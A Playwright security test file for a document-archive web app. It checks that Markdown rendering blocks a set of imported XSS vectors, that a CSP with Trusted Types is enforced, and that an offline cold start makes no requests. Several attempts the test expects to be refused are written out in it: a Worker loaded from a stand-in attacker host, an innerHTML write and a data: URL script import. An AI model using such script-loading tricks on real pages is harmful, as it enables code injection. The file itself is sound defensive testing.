// Documents made to do harm, and the app as a whole under its Content-Security-Policy with Trusted Types.
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { chromium, expect as expectSoon, test, type Page } from '@playwright/test';
import { readMaps } from '../../tools/check-maps.mjs';
import { build } from 'esbuild';
import { pagePolicy, serve } from '../../tools/serve.mjs';
import { chromiumOptions } from '../support/chromium.mjs';
import { dumpOf, sampleRows } from '../support/dumps.mjs';
import { VECTORS } from '../support/xss.mjs';
import {
  documentsPanel,
  hits,
  importFolder,
  KNOWN,
  makeFolder,
  openApp,
  searchBox,
  watchConduct,
  type Folder,
} from './app-page';

const expect = expectSoon.configure({ timeout: 30_000 });
test.describe.configure({ timeout: 240_000 });

const ALLOWED =
  'a abbr b blockquote br code dd del details div dl dt em h1 h2 h3 h4 h5 h6 hr i ins kbd li mark ol p pre q s samp small ' +
  'span strong sub summary sup table tbody td tfoot th thead tr u ul var';

let folder: string;
test.beforeEach(() => {
  folder = mkdtempSync(path.join(tmpdir(), 'archivolt-hostile-'));
});
test.afterEach(() => rmSync(folder, { recursive: true, force: true }));

/** What the page reports as forbidden by its policy, from its first script on. */
async function watchPolicy(page: Page): Promise<string[]> {
  const violations: string[] = [];
  await page.exposeFunction('policyViolated', (what: string) => violations.push(what));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      const told = globalThis as unknown as { policyViolated: (what: string) => void };
      told.policyViolated(`${event.effectiveDirective}: ${event.blockedURI} ${event.sample}`);
    });
  });
  return violations;
}

/** The reader's way from Markdown to elements, alone on a page with the app's policy. */
async function openReader(page: Page): Promise<void> {
  const { outputFiles } = await build({
    entryPoints: [path.resolve(import.meta.dirname, '../../web/app/src/features/reader/markdown.ts')],
    bundle: true,
    format: 'esm',
    write: false,
  });
  const headers = { 'content-security-policy': pagePolicy };
  await page.route('**/reader.html', (route) =>
    route.fulfill({ contentType: 'text/html', headers, body: '<!doctype html><main id="app"></main>' }),
  );
  const body = outputFiles[0]?.text ?? '';
  await page.route('**/reader.js', (route) => route.fulfill({ contentType: 'text/javascript', body }));
  await page.goto('/reader.html');
}

test('no known way to run script or to reach another host gets through Markdown', async ({ page }) => {
  expect(VECTORS.length).toBeGreaterThan(100);
  const conduct = watchConduct(page);
  const requests: string[] = [];
  await openReader(page);
  page.on('request', (request) => requests.push(request.url()));
  const shown = await page.evaluate(async (vectors) => {
    const address = '/reader.js';
    const { renderMarkdown } = (await import(address)) as {
      renderMarkdown: (text: string, passage: { start: number; end: number } | null) => DocumentFragment;
    };
    const app = document.getElementById('app') as HTMLElement;
    const elements: string[] = [];
    const attributes: string[] = [];
    const links: string[] = [];
    for (const vector of vectors) {
      for (const passage of [null, { start: 0, end: vector.length }]) {
        const holder = document.createElement('div');
        holder.append(renderMarkdown(`before\n\n${vector}\n\nafter`, passage));
        app.replaceChildren(holder);
        for (const element of holder.querySelectorAll<HTMLElement>('*')) {
          const html = element.namespaceURI === 'http://www.w3.org/1999/xhtml';
          elements.push(html ? element.localName : `${element.namespaceURI}:${element.localName}`);
          attributes.push(...element.getAttributeNames());
          if (element.hasAttribute('href')) links.push(element.getAttribute('href') ?? '');
          for (const type of ['mouseover', 'focus', 'toggle', 'load', 'error', 'animationstart'])
            element.dispatchEvent(new Event(type, { bubbles: true }));
          if (element.localName !== 'a') element.click();
        }
        // What the browser does by itself with what it is shown.
        await new Promise(requestAnimationFrame);
      }
    }
    await new Promise((resolve) => setTimeout(resolve, 200));
    return {
      elements: [...new Set(elements)],
      attributes: [...new Set(attributes)],
      links: [...new Set(links)],
      hacked: 'hacked' in globalThis,
      named: document.getElementById('app') === app && document.forms.length === 0,
    };
  }, VECTORS);
  expect(shown.hacked).toBe(false);
  expect(shown.named).toBe(true);
  expect(shown.elements.filter((name) => !ALLOWED.split(' ').includes(name))).toEqual([]);
  const allowed = 'href title start colspan rowspan align target rel class data-passage data-image'.split(' ');
  expect(shown.attributes.filter((name) => !allowed.includes(name))).toEqual([]);
  expect(shown.links.length).toBeGreaterThanOrEqual(3);
  expect(shown.links.filter((href) => !/^(https?|mailto):/i.test(href))).toEqual([]);
  expect(requests.filter((url) => !url.endsWith('/reader.js'))).toEqual([]);
  expect(conduct.foreign).toEqual([]);
  expect(new URL(page.url()).pathname).toBe('/reader.html');
});

test('the whole app works under its policy with Trusted Types, and the policy is in force', async ({ page }) => {
  const violations = await watchPolicy(page);
  const conduct = watchConduct(page);
  const files: Folder = makeFolder(6);
  try {
    const response = await page.goto('/');
    expect(response?.headers()['content-security-policy']).toContain("require-trusted-types-for 'script'");
    await openApp(page);
    await page.evaluate(() => navigator.serviceWorker.ready.then(() => undefined));
    await importFolder(page, files);
    // HTML has a reader of its own, loaded when it is met; so has each of the pages of the data.
    for (const mode of ['Words', 'Meaning', 'Both']) {
      await page.getByRole('radio', { name: mode }).check();
      await searchBox(page).fill(KNOWN.words);
      await expect(hits(page).first()).toContainText('water.md');
    }
    await hits(page).first().getByRole('link').click();
    await expect(page.locator('.in-passage').first()).toBeVisible();
    await page.getByRole('radio', { name: 'Source' }).check();
    await expect(page.locator('.in-passage, mark').first()).toBeVisible();
    await page.getByRole('button', { name: /^Colours follow the system/ }).click();
    await page.goto('/#/library');
    await documentsPanel(page).getByRole('searchbox', { name: 'Filter by name' }).fill('plain.txt');
    await documentsPanel(page)
      .getByRole('button', { name: /^Remove .*plain\.txt$/ })
      .click();
    await page.getByRole('dialog').getByRole('button', { name: 'Remove' }).click();
    await expect(page.getByRole('dialog')).toHaveCount(0);

    const main = page.getByRole('main');
    await page.goto('/#/data/import');
    const dump = path.join(folder, 'archi.sql');
    writeFileSync(dump, dumpOf(sampleRows(readMaps().get('archi'), 3)));
    await page.getByRole('radio', { name: /^Archi PostgreSQL/ }).check();
    const chooser = page.waitForEvent('filechooser');
    await main.getByRole('button', { name: 'Choose files', exact: true }).click();
    await (await chooser).setFiles(dump);
    await main.getByRole('button', { name: 'Import', exact: true }).click();
    await expect(main.getByRole('region', { name: 'The import is done.' })).toBeVisible();
    await page.goto('/#/data/export');
    const exported = page.waitForEvent('download');
    await main.getByRole('button', { name: 'Export', exact: true }).click();
    await exported;
    await page.goto('/#/data/backup');
    const saved = page.waitForEvent('download');
    await main.getByRole('button', { name: 'Make a backup' }).click();
    const backup = path.join(folder, 'backup.db');
    await (await saved).saveAs(backup);
    const again = page.waitForEvent('filechooser');
    await main.getByRole('button', { name: /^Choose (a backup|another)$/ }).click();
    await (await again).setFiles(backup);
    await main.getByRole('button', { name: 'Restore…', exact: true }).click();
    await page.getByRole('dialog').getByRole('button', { name: 'Replace everything' }).click();
    await expect(page.getByRole('dialog')).toHaveCount(0);
    await page.goto('/#/data/storage');
    await expect(main).toContainText(/health|storage/i);
    await page.reload();
    await page.getByText(/\d documents?, /).waitFor();
    expect({ violations, conduct }).toEqual({ violations: [], conduct: { breaches: [], errors: [], foreign: [] } });

    // The same listener hears what the policy is there for.
    const refused = await page.evaluate(() => {
      const attempts: Record<string, () => unknown> = {
        html: () => (document.createElement('div').innerHTML = '<b>x</b>'),
        worker: () => new Worker('/other.js'),
        foreignWorker: () => new Worker('https://attacker.example/assets/worker-12345678.js'),
        policy: () =>
          (
            globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }
          ).trustedTypes //
            .createPolicy('mine', {}),
      };
      return Object.entries(attempts).flatMap(([name, attempt]) => {
        try {
          attempt();
          return [];
        } catch {
          return [name];
        }
      });
    });
    expect(refused).toEqual(['html', 'worker', 'foreignWorker', 'policy']);
    await page.evaluate(() => import('data:text/javascript,globalThis.ran=1' as string).catch(() => undefined));
    await expect.poll(() => violations.join('\n')).toMatch(/require-trusted-types-for/);
    await expect.poll(() => violations.join('\n')).toMatch(/script-src/);
    await expect.poll(() => violations.join('\n')).toMatch(/trusted-types/);
    expect(await page.evaluate(() => 'ran' in globalThis)).toBe(false);
  } finally {
    files.remove();
  }
});

test('a cold start without a network asks for nothing', async () => {
  const app = path.resolve(import.meta.dirname, '../../web/app/dist');
  const server = await serve({ root: app });
  let context = await chromium.launchPersistentContext(path.join(folder, 'profile'), chromiumOptions);
  try {
    const first = context.pages()[0] ?? (await context.newPage());
    await openAt(first, server.url);
    await first.evaluate(() => navigator.serviceWorker.ready.then(() => undefined));
    await context.close();
    await server.close();

    context = await chromium.launchPersistentContext(path.join(folder, 'profile'), chromiumOptions);
    const page = context.pages()[0] ?? (await context.newPage());
    // Whatever reached for the network would fail now that nobody answers, and be told as a request that failed.
    const failed: string[] = [];
    context.on('requestfailed', (request) => failed.push(request.url()));
    const asked: string[] = [];
    context.on('response', (response) => {
      if (!response.fromServiceWorker()) asked.push(response.url());
    });
    const started = performance.now();
    await openAt(page, server.url);
    const took = Math.round(performance.now() - started);
    console.log(`cold start without a network: ${took} ms`);
    test.info().annotations.push({ type: 'measured', description: `${took} ms` });
    expect(failed).toEqual([]);
    expect(asked.filter((url) => url.startsWith('http'))).toEqual([]);
  } finally {
    await context.close();
    await server.close().catch(() => undefined);
  }
});

async function openAt(page: Page, url: string): Promise<void> {
  await page.goto(url);
  await page.getByText(/\d documents?, /).waitFor();
}
